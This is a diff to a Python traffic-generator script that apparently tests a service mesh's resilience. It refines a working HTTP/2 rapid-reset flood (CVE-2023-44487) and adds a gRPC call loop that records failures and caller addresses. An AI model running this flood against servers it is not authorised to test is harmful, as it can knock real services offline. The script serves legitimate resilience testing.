@@ -9,6 +9,7 @@ MODE ...`), so that their traffic is captured by the pod's ztunnel like an app's
   attack HOST PORT                    smuggling, oversized headers and an HTTP/2 rapid-reset
                                       flood; what the server answered to each
   grpc TARGET METHOD COUNT            unary calls with grpcio; replies or status codes
+  grpcloop TARGET METHOD --duration S calls on one channel; failures, the caller address seen
 """
 from __future__ import annotations
 
@@ -105,14 +106,28 @@ def _exchange(host: str, port: int, data: bytes, timeout: float = 5.0) -> dict:
 
 def rapid_reset(host: str, port: int, streams: int) -> dict:
     """Open and at once reset `streams` HTTP/2 streams (CVE-2023-44487), as fast as the
-    socket takes them; then see whether the server said GOAWAY and closed."""
+    socket takes them, reading what the server says in between (a GOAWAY must not be lost
+    to the reset our later writes would cause); then see whether it said GOAWAY and closed."""
+    import select
+
     import h2.config
     import h2.connection
     import h2.events
     import h2.exceptions
     conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
     conn.initiate_connection()
-    sent, goaway, closed, t0 = 0, None, False, time.monotonic()
+    sent, goaway, ended, t0 = 0, None, None, time.monotonic()
+
+    def take(data: bytes) -> None:
+        nonlocal goaway
+        try:
+            events = conn.receive_data(data)
+        except h2.exceptions.ProtocolError:
+            return
+        for ev in events:
+            if isinstance(ev, h2.events.ConnectionTerminated):
+                goaway = ev.error_code.name if hasattr(ev.error_code, "name") else str(ev.error_code)
+
     with socket.create_connection((host, port), timeout=5) as s:
         s.sendall(conn.data_to_send())
         try:
@@ -123,20 +138,27 @@ def rapid_reset(host: str, port: int, streams: int) -> dict:
                 conn.reset_stream(sid)
                 s.sendall(conn.data_to_send())
                 sent += 1
-        except (OSError, h2.exceptions.ProtocolError):
-            pass   # the server closed the connection under us: what the test wants to see
+                while select.select([s], [], [], 0)[0]:
+                    data = s.recv(65536)
+                    if not data:
+                        ended = "eof"
+                        break
+                    take(data)
+                if ended or goaway:
+                    break
+        except (OSError, h2.exceptions.ProtocolError) as exc:
+            ended = f"while sending: {exc!r}"
         s.settimeout(5)
         try:
-            while data := s.recv(65536):
-                for ev in conn.receive_data(data):
-                    if isinstance(ev, h2.events.ConnectionTerminated):
-                        goaway = ev.error_code.name if hasattr(ev.error_code, "name") else str(ev.error_code)
-            closed = True
+            while not ended and (data := s.recv(65536)):
+                take(data)
+            ended = ended or "eof"
         except ConnectionResetError:
-            closed = True
-        except (socket.timeout, h2.exceptions.ProtocolError):
+            ended = ended or "reset"
+        except socket.timeout:
             pass
-    return {"sent": sent, "goaway": goaway, "closed": closed, "seconds": round(time.monotonic() - t0, 3)}
+    return {"sent": sent, "goaway": goaway, "closed": ended is not None, "ended": ended,
+            "seconds": round(time.monotonic() - t0, 3)}
 
 
 def attack(host: str, port: int, streams: int, floods: int) -> dict:
@@ -169,6 +191,27 @@ def grpc_calls(target: str, method: str, count: int) -> dict:
     return {"replies": replies, "errors": errors}
 
 
+def grpc_loop(target: str, method: str, duration: float, interval: float) -> dict:
+    """Calls on one channel (grpcio reconnects on its own after a GOAWAY): failures, and the
+    caller address the server saw, in order."""
+    import grpc
+    seen, failures, ok = [], [], 0
+    start = time.monotonic()
+    with grpc.insecure_channel(target) as channel:
+        call = channel.unary_unary(method)
+        while (t := time.monotonic() - start) < duration:
+            try:
+                peer = json.loads(call(b"loop", timeout=5))["peer"].rsplit(":", 1)[0].removeprefix("ipv4:")
+                ok += 1
+                if not seen or seen[-1][0] != peer:
+                    seen.append([peer, round(t, 3), 0])
+                seen[-1][2] += 1
+            except grpc.RpcError as exc:
+                failures.append([round(t, 3), exc.code().name, exc.details()])
+            time.sleep(interval)
+    return {"ok": ok, "failures": failures, "clients": seen}
+
+
 def main() -> None:
     ap = argparse.ArgumentParser()
     sub = ap.add_subparsers(dest="mode", required=True)
@@ -184,6 +227,9 @@ def main() -> None:
     p.add_argument("--floods", type=int, default=3, help="rapid-reset connections, one after another")
     p = sub.add_parser("grpc")
     p.add_argument("target"), p.add_argument("method"), p.add_argument("count", type=int)
+    p = sub.add_parser("grpcloop")
+    p.add_argument("target"), p.add_argument("method"), p.add_argument("--duration", type=float, required=True)
+    p.add_argument("--interval", type=float, default=0.02)
     a = ap.parse_args()
     if a.mode == "paced":
         out = paced(a.url, a.rate, a.duration)
@@ -191,8 +237,10 @@ def main() -> None:
         out = loop(a.url, a.duration, a.interval, a.keepalive)
     elif a.mode == "attack":
         out = attack(a.host, a.port, a.streams, a.floods)
-    else:
+    elif a.mode == "grpc":
         out = grpc_calls(a.target, a.method, a.count)
+    else:
+        out = grpc_loop(a.target, a.method, a.duration, a.interval)
     json.dump(out, sys.stdout)
 
 
